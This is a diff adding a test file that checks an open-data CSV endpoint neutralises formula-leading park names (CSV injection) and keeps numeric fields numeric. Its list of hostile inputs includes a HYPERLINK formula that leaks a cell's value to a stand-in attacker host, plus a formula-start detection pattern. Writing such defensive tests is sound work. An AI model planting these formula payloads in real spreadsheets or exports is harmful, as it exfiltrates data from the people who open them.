@@ -1,0 +1,107 @@
+// Finding 9 of issue 15 (CSV injection) in open data: park names and codes as operators stored them are
+// served in the anonymous CSV; one that starts a formula must come out as text, numbers as numbers.
+import { AddressInfo } from 'node:net';
+import { INestApplication } from '@nestjs/common';
+import { Test } from '@nestjs/testing';
+import {
+  ComplianceStationDaysRepository,
+  ParksRepository,
+  StationsRepository,
+  StorageModule,
+  TreatmentPlantsRepository,
+} from '@hp/storage';
+import { createTestDatabase, TestDatabase } from '@hp/testing';
+import { OpenDataModule } from './open-data.module';
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+];
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** RFC 4180 records and fields (quoted fields may hold commas, CR and LF). */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [[]];
+  const pattern = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n|$)/g;
+  for (const m of text.replace(/^\uFEFF/, '').matchAll(pattern)) {
+    if (m[0] === '') break;
+    records[records.length - 1].push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
+    if (m[3] === '\r\n') records.push([]);
+  }
+  return records.filter((r) => r.length > 1 || (r.length === 1 && r[0] !== ''));
+}
+
+describe('open data CSV: formula-leading park names are neutralised (PostgreSQL)', () => {
+  let database: TestDatabase;
+  let app: INestApplication;
+  let url: string;
+
+  beforeAll(async () => {
+    database = await createTestDatabase();
+    const moduleRef = await Test.createTestingModule({
+      imports: [
+        StorageModule.forRoot({
+          databaseUrl: database.url,
+          dataDir: 'unused',
+          poolSize: 4,
+          migrateOnBoot: true,
+        }),
+        OpenDataModule.forRoot(),
+      ],
+    }).compile();
+    app = moduleRef.createNestApplication({ logger: ['error'] });
+    await app.listen(0, '127.0.0.1');
+    url = `http://127.0.0.1:${(app.getHttpServer().address() as AddressInfo).port}`;
+    for (const [i, name] of HOSTILE.entries()) {
+      const park = await app
+        .get(ParksRepository)
+        .upsert({ code: `OD${i}`, name, operatingStatus: 'operating' });
+      const plant = await app
+        .get(TreatmentPlantsRepository)
+        .upsert({ code: `OD${i}-CETP`, parkId: park.id, name: name, operatingStatus: 'operating' });
+      const station = await app
+        .get(StationsRepository)
+        .upsert({ code: `OD${i}-OUT`, plantId: plant.id, name, kind: 'outlet' });
+      await app.get(ComplianceStationDaysRepository).upsertMany([
+        {
+          stationId: station.id,
+          day: '2026-03-01',
+          permitId: null,
+          verdict: 'exceedance',
+          reasons: [name],
+        },
+      ]);
+    }
+  }, 60_000);
+
+  afterAll(async () => {
+    await app?.close();
+    await database?.drop();
+  });
+
+  it('serves each hostile park name with a leading quote, and the counts as plain numbers', async () => {
+    const response = await fetch(`${url}/open/v1/parks/daily?from=2026-03-01&to=2026-03-02&format=csv`);
+    expect(response.status).toBe(200);
+    const [header, ...rows] = parseCsv(await response.text());
+    const name = header.indexOf('parkName');
+    const outlets = header.indexOf('outlets');
+    expect(rows).toHaveLength(HOSTILE.length);
+    expect(rows.map((r) => r[name]).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
+    expect(rows.flat().filter((field) => FORMULA_START.test(field))).toEqual([]);
+    expect(rows.map((r) => r[outlets])).toEqual(HOSTILE.map(() => '1'));
+  });
+
+  it('keeps the KPI values numeric in CSV', async () => {
+    const response = await fetch(`${url}/open/v1/kpi?period=month&date=2026-03-01&format=csv`);
+    expect(response.status).toBe(200);
+    const [header, ...rows] = parseCsv(await response.text());
+    const value = header.indexOf('value');
+    expect(rows.length).toBeGreaterThan(0);
+    for (const r of rows) expect(r[value]).toMatch(/^(-?\d+(\.\d+)?(e-?\d+)?)?$/);
+    expect(rows.flat().filter((field) => FORMULA_START.test(field))).toEqual([]);
+  });
+});
